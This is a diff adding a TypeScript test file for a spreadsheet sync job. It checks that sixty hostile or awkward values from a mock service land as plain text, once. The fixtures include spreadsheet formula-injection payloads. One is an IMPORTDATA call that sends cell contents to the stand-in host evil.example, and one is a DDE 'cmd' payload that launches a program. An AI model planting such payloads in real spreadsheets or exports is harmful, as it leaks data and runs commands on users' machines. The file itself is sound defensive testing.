@@ -1,0 +1,154 @@
+/** Sixty hostile values in the records of a service: each lands in the tab as text, once. */
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { type JobsSpreadsheet, openJobsSpreadsheet, syncOf } from './jobs-spreadsheet.js';
+
+const FORMULAS = [
+  '=1+1',
+  '=IMPORTDATA("https://evil.example/?"&A1)',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '=HYPERLINK("x","y")',
+  '==',
+  '=',
+  "'=1+1",
+  "''quoted",
+  "=cmd|' /C calc'!A0",
+  ' =1+1',
+  '\t=1+1',
+  '\n=1+1',
+  '\r=1+1',
+  '=\u00a01',
+  '＝1+1',
+  '{=1+1}',
+  '=EXPANSIONS()',
+  '-',
+  '+',
+  '@',
+  "'",
+];
+const LOOK_ALIKES = [
+  'TRUE',
+  'false',
+  'WAHR',
+  '1',
+  '00123',
+  '1e5',
+  '1.5',
+  '1,5',
+  '50%',
+  '$100',
+  '2026-01-05',
+  '5/1/2026',
+  '5 May',
+  '12:30',
+  '1/2',
+  '(100)',
+  '#REF!',
+  '#N/A',
+  'NaN',
+  'null',
+  'undefined',
+  'Infinity',
+  '0x1F',
+];
+const ODD = [
+  'a\tb',
+  'line\nbreak',
+  'zero\u0000byte',
+  '\u202eright to left',
+  'e\u0301',
+  '\u00e9',
+  '👩‍💻',
+  '\ud800half',
+  '<b>bold</b>',
+  '&lt;script&gt;',
+  '"quotes"',
+  'x'.repeat(60_000),
+  '\u200bzero width',
+  '\ufeffmark',
+];
+const VALUES = [...FORMULAS, ...LOOK_ALIKES, ...ODD];
+
+/** Markup, control marks and halves of characters do not come through. */
+const ALTERED = ['<', '&', '\t', '\n', '\r', '\u0000', '\ud800', '\ufeff'];
+
+/** Ids that are easily taken for each other. */
+const IDS = [
+  '1',
+  '01',
+  '1.0',
+  '1e0',
+  'TRUE',
+  'true',
+  '=1',
+  "'1",
+  'a',
+  'A',
+  '2026-01-05',
+  '1/5/2026',
+  'x y',
+  'x  y',
+];
+
+let server: http.Server;
+let sheet: JobsSpreadsheet;
+let requests = 0;
+
+beforeAll(async () => {
+  server = http.createServer((_request, response) => {
+    requests += 1;
+    const records = Array.from({ length: VALUES.length }, (_, index) => ({
+      id: IDS[index] ?? `id-${index}`,
+      announcedDate: '2026-01-05',
+      title: VALUES[index],
+      company: { name: VALUES[(index + 7) % VALUES.length] },
+      lastModified: sheet.dayAgo(1),
+    }));
+    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(records));
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  sheet = await openJobsSpreadsheet({ recorder: { baseUrl } as never, apiKey: 'key_0123456789' });
+}, 60_000);
+
+afterAll(async () => {
+  await sheet?.close();
+  await new Promise((resolve) => server.close(resolve));
+});
+
+test('sixty hostile values land as text, once, however often the service sends them', async () => {
+  expect(VALUES).toHaveLength(60);
+  const input = syncOf(sheet, {
+    formula: '=EXPANSIONS(, "columns", "company|title")',
+    from: sheet.dayAgo(1),
+    log: true,
+  });
+  await sheet.runNow(await sheet.makeJob(input));
+  expect(requests).toBe(1);
+  const first = sheet.host.workbook.read("'Synced'!A1:C70");
+  expect(first.flat().filter(({ formula }) => formula !== '')).toEqual([]);
+  const rows = sheet.rowsById('Synced');
+  expect(rows.size).toBe(VALUES.length);
+  for (const [index, value] of VALUES.entries()) {
+    const shown = rows.get(IDS[index] ?? `id-${index}`)?.['Headline'];
+    expect([index, typeof shown]).toEqual([index, 'string']);
+    if (!ALTERED.some((mark) => value.includes(mark)) && value.trim() === value && value.length < 50_000) {
+      expect([index, shown]).toEqual([index, value]);
+    }
+  }
+  // another job over the same days brings the same records again
+  await sheet.runNow(await sheet.makeJob({ ...input, name: 'Again' }));
+  expect(requests).toBe(2);
+  const again = sheet.host.workbook.read("'Synced'!A1:C70");
+  expect(again.map((row) => row.map(({ value, note }) => [value, note]))).toEqual(
+    first.map((row) => row.map(({ value, note }) => [value, note])),
+  );
+  const log = sheet.host.workbook.read("'Signals log'!A1:G3").map((row) => row.map(({ value }) => value));
+  expect(log.map((row) => row.slice(1, 5))).toEqual([
+    ['Job', 'Result', 'New', 'Changed'],
+    ['All expansions', 'done', 60, 0],
+    ['Again', 'done', 0, 0],
+  ]);
+}, 60_000);
